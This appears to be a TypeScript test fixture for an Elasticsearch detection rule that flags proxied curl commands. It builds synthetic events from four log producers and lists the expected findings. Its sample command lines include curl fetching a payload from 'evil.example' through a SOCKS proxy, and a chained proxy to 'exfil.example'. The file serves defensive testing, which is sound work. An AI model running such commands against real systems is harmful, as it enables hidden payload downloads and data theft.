import type { Client } from '@elastic/elasticsearch';
import { auditbeatEvent, auditdManagerEvent, defendEvent, sysmonLinuxEvent, type ProcessSpec } from './ecs-events.js';
import { createSourceIndex, indexDocs, type FindingSummary, type TestNames } from './pipeline.js';

/** The day all scenario events happen on (UTC). */
export const day = '2026-11-01';
const at = (hhmm: string) => `${day}T${hhmm}:00.000Z`;

type Builder = (s: ProcessSpec) => Record<string, unknown>;

interface ScenarioEvent {
  kind: 'defend' | 'auditd' | 'auditbeat' | 'sysmon';
  id: string;
  spec: ProcessSpec;
  /** Elastic Defend fork events carry the parent's command line and must not count. */
  action?: string;
}

const builders: Record<ScenarioEvent['kind'], Builder> = {
  defend: defendEvent,
  auditd: auditdManagerEvent,
  auditbeat: auditbeatEvent,
  sysmon: sysmonLinuxEvent,
};

/**
 * A small day of process starts from all four producers: proxied curl in several forms,
 * curl without a proxy, the analytic's classic false positive (-X POST), a Defend fork event,
 * a suppressed corporate proxy, and one group spanning two hourly buckets.
 */
export const scenarioEvents: ScenarioEvent[] = [
  // One group counted twice in the 10:00 bucket (count 2, first 10:10, last 10:40).
  { kind: 'defend', id: 'd1', spec: { time: at('10:10'), host: 'web-1', user: 'alice', commandLine: 'curl -x socks5h://10.0.0.5:1080 https://evil.example/payload', pid: 4242, ppid: 4000 } },
  { kind: 'defend', id: 'd2', spec: { time: at('10:40'), host: 'web-1', user: 'alice', commandLine: 'curl -x socks5h://10.0.0.5:1080 https://evil.example/payload', pid: 4242, ppid: 4000 } },
  // Same group, next bucket: a separate finding.
  { kind: 'defend', id: 'd3', spec: { time: at('11:05'), host: 'web-1', user: 'alice', commandLine: 'curl -x socks5h://10.0.0.5:1080 https://evil.example/payload', pid: 4242, ppid: 4000 } },
  // Not proxies.
  { kind: 'defend', id: 'd4', spec: { time: at('10:15'), host: 'web-1', user: 'alice', commandLine: 'curl -X POST https://api.example/v1', pid: 4300, ppid: 4000 } },
  { kind: 'defend', id: 'd5', spec: { time: at('10:16'), host: 'web-1', user: 'alice', commandLine: 'curl -sS https://ok.example/socks5://not-a-proxy', pid: 4301, ppid: 4000 } },
  { kind: 'defend', id: 'd6', spec: { time: at('10:17'), host: 'web-1', user: 'alice', commandLine: 'bash -c curl', pid: 4302, ppid: 4000 } },
  // A fork of a proxied curl: skipped, it would double count.
  { kind: 'defend', id: 'd7', action: 'fork', spec: { time: at('10:18'), host: 'web-1', user: 'alice', commandLine: 'curl --proxy http://10.0.0.7:3128 https://a.example', pid: 4303, ppid: 4000 } },
  // Corporate proxy: suppressed by config.
  { kind: 'defend', id: 'd8', spec: { time: at('12:00'), host: 'web-2', user: 'deploy', commandLine: 'curl --proxy http://10.99.1.1:3128 https://updates.example', pid: 5000, ppid: 4999 } },
  // Other producers.
  { kind: 'auditd', id: 'a1', spec: { time: at('13:30'), host: 'db-1', user: 'bob', commandLine: 'curl --socks5-hostname proxy.internal:1080 http://x.example', pid: 777, ppid: 700 } },
  { kind: 'auditbeat', id: 'b1', spec: { time: at('14:45'), host: 'db-2', user: 'carol', commandLine: 'curl -sSxsocks4a://1.2.3.4:9050 http://hidden.example', pid: 888, ppid: 800 } },
  { kind: 'sysmon', id: 's1', spec: { time: at('15:20'), host: 'app-1', user: 'root', commandLine: 'curl --preproxy socks5://127.0.0.1:9050 -x http://10.9.9.9:3128 https://exfil.example', pid: 999, ppid: 900, parentName: 'python3' } },
  { kind: 'sysmon', id: 's2', spec: { time: at('15:21'), host: 'app-1', user: 'root', commandLine: '/usr/bin/ls -la', pid: 1000, ppid: 900, executable: '/usr/bin/ls' } },
];

/** The suppression the scenario expects to be configured. */
export const scenarioSuppressions = [{ reason: 'corporate proxy', proxyHost: '10.99.0.0/16' }];

/** What the detection must find, worked out by hand from the events above. */
export const expectedFindings: Omit<FindingSummary, 'id' | 'version'>[] = [
  { host: 'app-1', user: 'root', parent: 'python3', commandLine: 'curl --preproxy socks5://127.0.0.1:9050 -x http://10.9.9.9:3128 https://exfil.example', pid: 999, count: 1, start: at('15:20'), end: at('15:20') },
  { host: 'db-1', user: 'bob', parent: 'unknown', commandLine: 'curl --socks5-hostname proxy.internal:1080 http://x.example', pid: 777, count: 1, start: at('13:30'), end: at('13:30') },
  { host: 'db-2', user: 'carol', parent: 'unknown', commandLine: 'curl -sSxsocks4a://1.2.3.4:9050 http://hidden.example', pid: 888, count: 1, start: at('14:45'), end: at('14:45') },
  { host: 'web-1', user: 'alice', parent: 'bash', commandLine: 'curl -x socks5h://10.0.0.5:1080 https://evil.example/payload', pid: 4242, count: 2, start: at('10:10'), end: at('10:40') },
  { host: 'web-1', user: 'alice', parent: 'bash', commandLine: 'curl -x socks5h://10.0.0.5:1080 https://evil.example/payload', pid: 4242, count: 1, start: at('11:05'), end: at('11:05') },
];

/** Indexes the scenario into one index per producer; `ingested` overrides event.ingested. */
export async function loadScenario(es: Client, names: TestNames, ingested?: string): Promise<void> {
  for (const kind of ['defend', 'auditd', 'auditbeat', 'sysmon'] as const) {
    const index = names.index(kind);
    await createSourceIndex(es, index);
    const docs = scenarioEvents
      .filter((e) => e.kind === kind)
      .map((e) => {
        const doc = builders[kind]({ ...e.spec, ...(ingested !== undefined ? { ingested } : {}) });
        if (e.action !== undefined) (doc.event as Record<string, unknown>).action = e.action;
        return { id: e.id, doc };
      });
    await indexDocs(es, index, docs);
  }
}

/** Drops the fields that differ between runs by nature (ids and versions). */
export function comparable(f: readonly FindingSummary[]): Omit<FindingSummary, 'id' | 'version'>[] {
  return f.map(({ id: _id, version: _v, ...rest }) => rest);
}
